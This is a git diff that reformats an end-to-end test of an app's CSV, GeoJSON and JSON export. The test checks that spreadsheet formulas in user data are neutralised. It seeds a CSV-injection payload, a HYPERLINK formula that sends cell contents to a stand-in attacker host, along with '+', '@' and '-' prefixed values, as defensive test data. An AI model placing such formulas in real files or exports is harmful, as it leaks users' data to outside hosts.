@@ -14,7 +14,17 @@ import assert from 'node:assert/strict';
 import fs from 'node:fs';
 import { parse } from 'csv-parse/sync';
 import {
-  checkSetup, cleanup, startAppNode, seedSpace, launchBrowser, openApp, onboard, until, syncState, screenshot, cli,
+  checkSetup,
+  cleanup,
+  startAppNode,
+  seedSpace,
+  launchBrowser,
+  openApp,
+  onboard,
+  until,
+  syncState,
+  screenshot,
+  cli,
   assertAccessible,
 } from './harness.mjs';
 
@@ -27,20 +37,29 @@ const FORMULA = '=HYPERLINK("https://attacker.invalid/?d="&A1,"Open")';
 const FORMULA_LINES = '+1+1\nsecond line';
 const ARABIC = 'مشروع اختبار التصدير';
 
-
 async function totalWhere(page, what, ok) {
-  return until(what, async () => {
-    const v = await page.getByTestId('total').getAttribute('data-total');
-    return v !== '' && ok(Number(v)) ? Number(v) : false;
-  }, 20000);
+  return until(
+    what,
+    async () => {
+      const v = await page.getByTestId('total').getAttribute('data-total');
+      return v !== '' && ok(Number(v)) ? Number(v) : false;
+    },
+    20000,
+  );
 }
 
 // Clicks the export button of `format`; returns the file's name and bytes
 // once the page says it is done.
 async function download(page, format) {
-  const [file] = await Promise.all([page.waitForEvent('download', { timeout: 30000 }), page.getByTestId(`export-${format}`).click()]);
+  const [file] = await Promise.all([
+    page.waitForEvent('download', { timeout: 30000 }),
+    page.getByTestId(`export-${format}`).click(),
+  ]);
   const bytes = fs.readFileSync(await file.path());
-  await until(`the ${format} export to be reported`, async () => (await page.getByTestId('export-status').getAttribute('data-state')) === 'done');
+  await until(
+    `the ${format} export to be reported`,
+    async () => (await page.getByTestId('export-status').getAttribute('data-state')) === 'done',
+  );
   return { name: file.suggestedFilename(), bytes };
 }
 
@@ -57,9 +76,18 @@ test('export the Discover result as CSV, GeoJSON and JSON', { timeout: 280000 },
   const city = cli(admin.home, ['find', admin.space, '--type', 'city', '--lang', 'en', '--limit', '1']).hits[0];
   // Another member writes formulas where a spreadsheet would run them.
   const evil = cli(admin.home, [
-    'put', admin.space, 'project', 'new',
-    `title@en=${FORMULA}`, `title@ar=${ARABIC}`, `summary@en=${FORMULA_LINES}`,
-    `sector=${SECTOR}`, `city=${city.id}`, 'lat=12.5', 'lon=-8.25', '+tags=@cmd',
+    'put',
+    admin.space,
+    'project',
+    'new',
+    `title@en=${FORMULA}`,
+    `title@ar=${ARABIC}`,
+    `summary@en=${FORMULA_LINES}`,
+    `sector=${SECTOR}`,
+    `city=${city.id}`,
+    'lat=12.5',
+    'lon=-8.25',
+    '+tags=@cmd',
   ]).id;
   admin.sync();
   const { entities } = cli(admin.home, ['export', admin.space, '--format', 'json']);
@@ -73,8 +101,13 @@ test('export the Discover result as CSV, GeoJSON and JSON', { timeout: 280000 },
     expected.push(...r.hits.map((h) => h.id));
   }
   assert.ok(expected.includes(evil));
-  const located = expected.filter((id) => typeof byId.get(id).values.lat === 'number' && typeof byId.get(id).values.lon === 'number');
-  assert.ok(located.length > 0 && located.length < expected.length, 'the result has entities with and without a location');
+  const located = expected.filter(
+    (id) => typeof byId.get(id).values.lat === 'number' && typeof byId.get(id).values.lon === 'number',
+  );
+  assert.ok(
+    located.length > 0 && located.length < expected.length,
+    'the result has entities with and without a location',
+  );
 
   const chrome = await launchBrowser();
   const context = await chrome.newContext(); // accepts downloads
@@ -97,13 +130,20 @@ test('export the Discover result as CSV, GeoJSON and JSON', { timeout: 280000 },
   await page.keyboard.press('Tab');
   await page.keyboard.press('Escape');
   assert.equal(await page.getByTestId('export-panel').count(), 0);
-  assert.equal(await page.evaluate(() => document.activeElement?.dataset.testid), 'export', 'focus returns to the button');
+  assert.equal(
+    await page.evaluate(() => document.activeElement?.dataset.testid),
+    'export',
+    'focus returns to the button',
+  );
   await page.keyboard.press('Enter');
   await page.getByTestId('export-panel').waitFor();
 
   // ---- CSV in English ------------------------------------------------------------------
   const csv = await download(page, 'csv');
-  const spaceName = await page.evaluate(async (space) => (await window.urbisDb.spaces()).find((s) => s.space === space).name, admin.space);
+  const spaceName = await page.evaluate(
+    async (space) => (await window.urbisDb.spaces()).find((s) => s.space === space).name,
+    admin.space,
+  );
   const slug = spaceName ? 'Urbis-demo-fictional-cities' : admin.space.slice(0, 8);
   assert.match(csv.name, new RegExp(`^urbis-${slug}-\\d{4}-\\d\\d-\\d\\d\\.csv$`));
   const rows = readCsv(csv.bytes);
@@ -117,7 +157,9 @@ test('export the Discover result as CSV, GeoJSON and JSON', { timeout: 280000 },
   assert.equal(row.city, city.id);
   assert.equal(row.city_name, city.title);
   assert.equal(row.lon, '-8.25', 'a negative number stays a number');
-  for (const r of rows) for (const [k, v] of Object.entries(r)) assert.ok(!/^[=+@]/.test(v) && (!v.startsWith('-') || Number.isFinite(Number(v))), `${k}: ${v}`);
+  for (const r of rows)
+    for (const [k, v] of Object.entries(r))
+      assert.ok(!/^[=+@]/.test(v) && (!v.startsWith('-') || Number.isFinite(Number(v))), `${k}: ${v}`);
   assert.equal(await page.getByTestId('export-status').getAttribute('data-unlocated'), '0');
   // The texts in English, or in the original language where there is no English.
   const zhOnly = rows.find((r) => byId.get(r.id).translations.title && !byId.get(r.id).translations.title.values.en);
@@ -135,9 +177,12 @@ test('export the Discover result as CSV, GeoJSON and JSON', { timeout: 280000 },
   const wideEvil = wide.find((r) => r.id === evil);
   assert.equal(wideEvil['title@ar'], ARABIC);
   assert.equal(wideEvil['title@en'], `'${FORMULA}`);
-  const translated = wide.find((r) => r.id !== evil && Object.keys(byId.get(r.id).translations.title?.values || {}).length > 1);
+  const translated = wide.find(
+    (r) => r.id !== evil && Object.keys(byId.get(r.id).translations.title?.values || {}).length > 1,
+  );
   assert.ok(translated, 'the demo data has titles in several languages');
-  for (const [l, text] of Object.entries(byId.get(translated.id).translations.title.values)) assert.equal(translated[`title@${l}`], text);
+  for (const [l, text] of Object.entries(byId.get(translated.id).translations.title.values))
+    assert.equal(translated[`title@${l}`], text);
   await page.getByTestId('export-per-translation').uncheck();
 
   // ---- GeoJSON ------------------------------------------------------------------------
@@ -153,7 +198,10 @@ test('export the Discover result as CSV, GeoJSON and JSON', { timeout: 280000 },
   }
   assert.equal(collection.features.find((f) => f.id === evil).properties.translations.title.values.ar, ARABIC);
   assert.equal(await page.getByTestId('export-status').getAttribute('data-unlocated'), String(total - located.length));
-  assert.match(await page.getByTestId('export-status').textContent(), new RegExp(`${total - located.length} results? without a location`));
+  assert.match(
+    await page.getByTestId('export-status').textContent(),
+    new RegExp(`${total - located.length} results? without a location`),
+  );
 
   // ---- JSON ---------------------------------------------------------------------------
   const json = await download(page, 'json');
